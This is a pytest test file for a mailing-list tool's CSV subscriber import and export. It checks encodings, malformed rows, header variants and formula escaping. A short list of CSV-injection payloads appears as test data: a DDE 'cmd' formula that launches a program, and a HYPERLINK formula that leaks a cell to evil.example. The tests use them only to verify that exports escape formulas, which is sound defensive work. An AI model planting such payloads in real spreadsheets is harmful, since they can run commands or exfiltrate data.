"""Spreadsheets as real tools save them, imported through the real CLI.

The files are in tests/data/csv/ (example.org / example.net addresses only); each test
copies one into a fresh working folder, imports it into the list ``stampa`` and reads
the result back with ``subscribers list --json`` and the rejects file.
"""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pytest

from wip_mailer import db
from wip_mailer.audience import csv_import, lists, subscribers
from wip_mailer.audience.addresses import address_from_cell, country_code, language_code, normalise_tags
from wip_mailer.audience.csv_reader import escape_formula, unescape_formula

DATA = Path(__file__).parent / "data" / "csv"


@pytest.fixture
def stampa(engine) -> None:
    with db.session_scope(engine) as session:
        lists.create_list(session, "stampa", double_opt_in=True)


def _copy(name: str, folder: Path) -> Path:
    return Path(shutil.copy(DATA / name, folder / name))


def _people(cli) -> dict[str, dict]:
    result = cli("subscribers", "list", "--json")
    assert result.exit_code == 0, result.stderr
    return {p["email"]: p for p in map(json.loads, result.stdout.splitlines())}


def test_excel_windows_csv_in_cp1252_is_read_and_said(cli, stampa, workdir) -> None:
    source = _copy("excel-windows-cp1252.csv", workdir)
    result = cli("subscribers", "import", str(source), "--list", "stampa")
    assert result.exit_code == 0, result.stderr
    assert "is not UTF-8: read it as Windows-1252" in result.stderr
    assert result.stdout.startswith("2 rows: 2 added")
    people = _people(cli)
    assert people["andrea.verdi@example.org"] == {
        "email": "andrea.verdi@example.org", "name": "André Müller", "language": "it",
        "organisation": "Città di Torino", "country": "IT", "tags": [], "status": "active"}
    assert (people["zoe@example.net"]["name"], people["zoe@example.net"]["organisation"],
            people["zoe@example.net"]["language"]) == ("Zoë Brontë", "Société Générale", "fr")


def test_excel_unicode_text_utf16_tab_separated(cli, stampa, workdir) -> None:
    source = _copy("excel-unicode-text.csv", workdir)
    result = cli("subscribers", "import", str(source), "--list", "stampa")
    assert result.exit_code == 0, result.stderr
    assert "Windows-1252" not in result.stderr
    people = _people(cli)
    assert (people["anna@example.org"]["language"], people["anna@example.org"]["country"]) == ("en", "GB")
    assert people["bob@example.net"]["name"] == "Björn Ångström"


def test_messy_rows_good_ones_in_bad_ones_reported_by_physical_line(cli, stampa, workdir) -> None:
    source = _copy("messy-rows.csv", workdir)
    result = cli("subscribers", "import", str(source), "--list", "stampa")
    assert result.exit_code == 0, result.stderr
    assert result.stdout.splitlines()[0] == (
        "8 rows: 5 added, 0 activated, 0 updated, 0 unchanged, 3 rejected.")
    lines = [line for line in result.stderr.splitlines() if line.startswith(f"{source}:")]
    # The rows whose address was cleaned up are said out loud too (issue 13), after the rejections.
    assert lines[3:] == [
        f"{source}:2: corrected 'Mario Rossi <Mario.Rossi@Example.ORG>' to mario.rossi@example.org "
        "(unwrapped from Name <addr>, case folded)",
        f"{source}:5: corrected 'mailto:ugo@example.org' to ugo@example.org (mailto: removed)",
        f"{source}:8: corrected 'trail@example.net.' to trail@example.net (trailing dot removed)",
    ]
    assert lines[:3] == [
        f"{source}:7: 'not-an-address' is not a valid email address: An email address must have an @-sign",
        f"{source}:10: has the value 'note' in column 5, which has no header",
        f"{source}:11: mario.rossi@example.org is a duplicate of line 2",
    ]
    people = _people(cli)
    assert set(people) == {"mario.rossi@example.org", "ugo@example.org", "trail@example.net",
                           "short@example.org", "user@città.example"}
    mario = people["mario.rossi@example.org"]
    assert (mario["name"], mario["organisation"], mario["tags"]) == (
        "Mario Rossi", "Comune di Torino, Relazioni internazionali", ["partner", "press"])
    assert people["ugo@example.org"]["organisation"] == "Ufficio stampa"

    with (workdir / "messy-rows.rejects.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == [" Email Address ", "Name", "Organisation", "Tags", "", "line", "reason"]
    assert [(r[0], r[5]) for r in rows[1:]] == [
        ("not-an-address", "7"), ("long@example.org", "10"), ("MARIO.ROSSI@example.org", "11")]


def test_reimporting_the_same_spreadsheet_changes_nothing(cli, stampa, workdir) -> None:
    source = _copy("excel-windows-cp1252.csv", workdir)
    cli("subscribers", "import", str(source), "--list", "stampa")
    again = cli("subscribers", "import", str(source), "--list", "stampa")
    assert again.stdout.startswith("2 rows: 0 added, 0 activated, 0 updated, 2 unchanged, 0 rejected.")


def test_a_single_column_of_addresses_needs_no_header(cli, stampa, workdir) -> None:
    source = _copy("addresses-only.csv", workdir)
    result = cli("subscribers", "import", str(source), "--list", "stampa")
    assert result.exit_code == 0, result.stderr
    assert "has no header line: its single column was read as email addresses" in result.stderr
    assert f"{source}:3: 'not an address' is not a valid email address" in result.stderr
    assert set(_people(cli)) == {"one@example.org", "two@example.net"}


def test_several_columns_without_a_header_are_refused(cli, stampa, workdir) -> None:
    source = workdir / "x.csv"
    source.write_text("anna@example.org,Anna,it\nbob@example.org,Bob,en\n", encoding="utf-8")
    result = cli("subscribers", "import", str(source), "--list", "stampa")
    assert result.exit_code == 1
    assert result.stderr == (
        f"Error: The file {source} has no header line: its first line is data (anna@example.org, Anna, it); "
        "add a first line naming the columns, e.g. email,name,language.\n")
    assert _people(cli) == {}


@pytest.mark.parametrize(("content", "message"), [
    (None, "is a spreadsheet workbook (.xlsx or .ods), not CSV text; open it in the spreadsheet and save it "
           "as \"CSV UTF-8\"."),
    (b"", "is empty; its first line must name the columns."),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64), "is an old Excel workbook (.xls), not CSV text"),
    (b"email,name\n\x00a\x00@\x00", "is not CSV text (a NUL byte on line 2)"),
    (b"Email,E-mail\na@example.org,b@example.org\n",
     "has two email columns ('Email', column 1, and 'E-mail', column 2); delete one of them."),
    (b"email,telefono\na@example.org,1\n", "has the unknown column 'telefono' (column 2)"),
], ids=["xlsx", "empty", "xls", "binary", "two-email-columns", "unknown-column"])
def test_files_that_cannot_be_imported_get_one_sentence(cli, stampa, workdir, content, message) -> None:
    if content is None:
        source = _copy("workbook-saved-as.csv", workdir)
    else:
        source = workdir / "x.csv"
        source.write_bytes(content)
    result = cli("subscribers", "import", str(source), "--list", "stampa")
    assert result.exit_code == 1
    assert result.stderr.startswith(f"Error: The file {source} {message}")
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
    assert _people(cli) == {}


@pytest.mark.parametrize("header", ["email", "E-mail", " Email ", "EMAIL", "Email Address", "e_mail",
                                    "Indirizzo e-mail", "Posta elettronica", "mail"])
def test_email_header_spellings(cli, stampa, workdir, header) -> None:
    source = workdir / "x.csv"
    source.write_text(f"{header};Nome;Lingua;Organizzazione;Paese;Etichette\n"
                      "a@example.org;Anna;IT;Ente;Italia;stampa, partner\n", encoding="utf-8")
    result = cli("subscribers", "import", str(source), "--list", "stampa")
    assert result.exit_code == 0, result.stderr
    assert _people(cli)["a@example.org"] == {
        "email": "a@example.org", "name": "Anna", "language": "it", "organisation": "Ente",
        "country": "IT", "tags": ["partner", "stampa"], "status": "active"}


def test_a_full_name_column_wins_over_first_and_last(cli, stampa, workdir) -> None:
    source = workdir / "x.csv"
    source.write_text("email,first name,last name,full name\na@example.org,A,B,Anna Bianchi\n"
                      "b@example.org,Bruno,Neri,\n", encoding="utf-8")
    assert cli("subscribers", "import", str(source), "--list", "stampa").exit_code == 0
    people = _people(cli)
    assert (people["a@example.org"]["name"], people["b@example.org"]["name"]) == ("Anna Bianchi", "")


@pytest.mark.parametrize(("raw", "code"), [
    ("it", "it"), ("IT", "it"), ("it-IT", "it"), ("en_GB", "en"), ("Italiano", "it"), ("English", "en"),
    ("inglese", "en"), ("Français", "fr"), ("Deutsch", "de"), ("xx", None), ("Klingon", None),
])
def test_language_values(raw: str, code: str | None) -> None:
    assert language_code(raw) == code


@pytest.mark.parametrize(("raw", "code"), [
    ("IT", "IT"), ("fr", "FR"), ("Italy", "IT"), ("Italia", "IT"), ("United Kingdom", "GB"), ("UK", "GB"),
    ("Germania", "DE"), ("Deutschland", "DE"), ("QQ", None), ("Atlantis", None),
])
def test_country_values(raw: str, code: str | None) -> None:
    assert country_code(raw) == code


@pytest.mark.parametrize(("raw", "expected"), [
    ("  a@example.org ", ("a@example.org", "")),
    ("Mario Rossi <mr@example.org>", ("mr@example.org", "Mario Rossi")),
    ('"Rossi, Mario" <mr@example.org>', ("mr@example.org", "Rossi, Mario")),
    ("<mr@example.org>", ("mr@example.org", "")),
    ("MAILTO:mr@example.org", ("mr@example.org", "")),
    ("mr@example.org.", ("mr@example.org", "")),
    ("mr@example.org..", ("mr@example.org..", "")),  # left for the validator to refuse
    ("not an address", ("not an address", "")),
])
def test_address_cells(raw: str, expected: tuple[str, str]) -> None:
    assert address_from_cell(raw) == expected


def test_tags_split_on_commas_and_semicolons() -> None:
    assert normalise_tags("Press; partner,EU ;;") == ["eu", "partner", "press"]


FORMULA_NAMES = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
]


def test_export_escapes_formulas_and_reimport_gives_the_names_back(cli, engine, settings, stampa,
                                                                   workdir) -> None:
    people = {f"f{i}@example.org": name for i, name in enumerate(FORMULA_NAMES)}
    people |= {"anna@example.org": "-Anna-", "tel@example.org": "+39 011 011 0000",
               "apos@example.org": "'=already quoted", "plain@example.org": "Plain 'quote' name",
               "-dash@example.org": "Dash"}
    for email, name in people.items():
        subscribers.add_subscriber(engine, settings, email, ["stampa"], confirmed=True,
                                   profile=subscribers.Profile(name=name, organisation="=1+1"))
    out = workdir / "export.csv"
    assert cli("subscribers", "export", "--list", "stampa", "--out", str(out)).exit_code == 0

    rows = {r["email"]: r for r in csv.DictReader(out.open(encoding="utf-8", newline=""))}
    for email, name in people.items():
        cell = rows[escape_formula(email)]["name"]
        assert cell == (f"'{name}" if name[0] in "=+-@'" else name)
    assert rows["'-dash@example.org"]["organisation"] == "'=1+1"
    # No cell of the file starts the way a spreadsheet formula does.
    cells = [cell for row in csv.reader(out.open(encoding="utf-8", newline="")) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]

    # Into a fresh database: the import takes off exactly the ' the export put on.
    engine_copy = db.create_database(f"sqlite:///{workdir / 'copy.db'}")
    with db.session_scope(engine_copy) as session:
        lists.create_list(session, "stampa", double_opt_in=False)
    report = csv_import.import_csv(engine_copy, settings, out, "stampa")
    assert (report.added, report.rejected) == (len(people), [])
    with db.session_scope(engine_copy) as session:
        back = {email: subscribers.show_subscriber(session, email) for email in people}
    engine_copy.dispose()
    assert {email: p["name"] for email, p in back.items()} == people
    assert {p["organisation"] for p in back.values()} == {"=1+1"}


@pytest.mark.parametrize(("cell", "escaped"), [
    ("=1+1", "'=1+1"), ("+39", "'+39"), ("-", "'-"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("'=x", "''=x"), ("'x", "'x"), ("Anna", "Anna"), ("", ""), (" =x", " =x"), ("a=b", "a=b"),
])
def test_formula_escape_is_undone_exactly(cell: str, escaped: str) -> None:
    assert escape_formula(cell) == escaped
    assert unescape_formula(escaped) == cell


def test_a_header_with_an_open_quote_is_one_sentence(cli, stampa, workdir) -> None:
    source = workdir / "x.csv"
    source.write_text('email,"name\na@example.org,Anna\n', encoding="utf-8")
    result = cli("subscribers", "import", str(source), "--list", "stampa")
    assert (result.exit_code, result.stderr) == (1, (
        f"Error: The file {source} cannot be read: its first line has a quote (\") that is not closed "
        "before line 2, which is a row of its own; fix that line.\n"))
    assert _people(cli) == {}
